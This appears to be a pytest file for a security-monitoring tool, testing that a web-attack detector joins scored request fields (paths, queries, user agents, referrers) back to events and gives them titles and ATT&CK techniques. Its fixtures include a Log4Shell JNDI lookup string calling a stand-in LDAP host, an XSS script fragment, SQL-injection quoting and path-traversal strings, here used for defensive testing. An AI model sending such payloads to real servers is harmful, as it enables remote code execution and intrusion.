"""The join of scores to requests sees the same texts as the query that chooses what is scored."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pyarrow.compute as pc
import pytest

import soc_tui.analysis
from soc_tui.analysis.corpora.query import CLASSES
from soc_tui.detection.detectors import ALL_DETECTORS
from soc_tui.knowledge.library import Library

CHOOSE = Path(soc_tui.analysis.__file__).parent / "features" / "query_values.sql"

REQUESTS = [
    ("/a", None), ("/a/b.php", "id=1&name=x+y"), ("/p", "flag"), ("/p", "a=b=c&=v&d="), ("/p", "x%27=1&'or'1"),
    ("/p", "&&"), ("/", "a[]=<s>&a[0]=../"), (None, "q=" + "z" * 5000), ("/p", "=&=="), ("/ünï", "k=ü"),
]  # fmt: skip


ENTRIES = {
    "sqli": "sql-injection", "xss": "cross-site-scripting", "traversal": "path-traversal", "inclusion": "path-traversal",
    "command": "command-injection", "code": "command-injection", "template": "command-injection",
    "lookup": "command-injection", "other": "web-attack",
}  # fmt: skip
"""Class -> the knowledge entry of its alert."""
AGENTS = {2: "${jndi:ldap://192.0.2.1/a}", 5: "Mozilla/5.0 (X11)", 8: "x"}
REFERRERS = {3: "https://a.example/?q=<script>", 4: "https://a.example/plain-page.html", 6: "http://a.example/../etc"}


def test_every_text_that_is_scored_is_joined_back(workspace: Any, events: dict[str, Any]) -> None:
    requests = [
        events["web"](i * 4000, path, url_query=query, user_agent=AGENTS.get(i), referrer=REFERRERS.get(i))
        for i, (path, query) in enumerate(REQUESTS)
    ]
    first, last = workspace.add(requests)
    chosen = workspace.store.sql(CHOOSE.read_text(), {"first_event_id": first, "last_event_id": last})
    with workspace.store.transaction() as tx:
        tx.execute(
            "INSERT INTO scores SELECT DISTINCT 'query', value, 0.9, 'other', '[]' FROM chosen",
            tables={"chosen": chosen},
        )
    found = workspace.find("web-attack", (first, last), threshold=0.5)
    joined = sorted(i for finding in found for i in finding["event_ids"])
    assert joined == sorted(
        set(
            workspace.store.sql(
                """
        SELECT e.event_id FROM events e WHERE length(e.url_path) > 1 OR length(e.user_agent) > 1
            OR EXISTS (FROM chosen c WHERE c.field = 'referrer' AND c.value = e.referrer) OR EXISTS (
            FROM chosen c WHERE c.field = 'url_query' AND contains(e.url_query, c.value))
    """,
                tables={"chosen": chosen},
            )
            .column(0)
            .to_pylist()
        )
    )
    assert set(chosen.filter(pc.equal(chosen["field"], "user_agent"))["value"].to_pylist()) == {AGENTS[2], AGENTS[5]}
    assert set(chosen.filter(pc.equal(chosen["field"], "referrer"))["value"].to_pylist()) == {
        REFERRERS[3],
        REFERRERS[6],
    }


def test_an_attack_in_a_header_alone_is_found(workspace: Any, events: dict[str, Any]) -> None:
    window = workspace.add([events["web"](0, "/", user_agent=AGENTS[2], http_status=200)])
    with workspace.store.transaction() as tx:
        tx.execute("INSERT INTO scores VALUES ('query', $value, 0.99, 'lookup', '[]')", {"value": AGENTS[2]})
    (found,) = workspace.find("web-attack", window, threshold=0.5)
    assert found["title"] == "Web attack (JNDI lookup) by 203.0.113.9"
    assert found["techniques"] == ["T1059", "T1190"]
    assert json.loads(found["explanation"])[0] == {"field": "user_agent", "value": AGENTS[2], "weight": 0.99}


@pytest.mark.parametrize("label", CLASSES[1:])
def test_each_class_has_a_title_that_knowledge_knows(workspace: Any, events: dict[str, Any], label: str) -> None:
    window = workspace.add([events["web"](0, "/x", url_query="a=attack")])
    with workspace.store.transaction() as tx:
        tx.execute("INSERT INTO scores VALUES ('query', 'attack', 0.99, $label, '[]')", {"label": label})
    (found,) = workspace.find("web-attack", window, threshold=0.5)
    assert set(found["techniques"]) <= set(ALL_DETECTORS["web-attack"].techniques)
    assert Library().match(found)[0].entry.slug == ENTRIES[label]
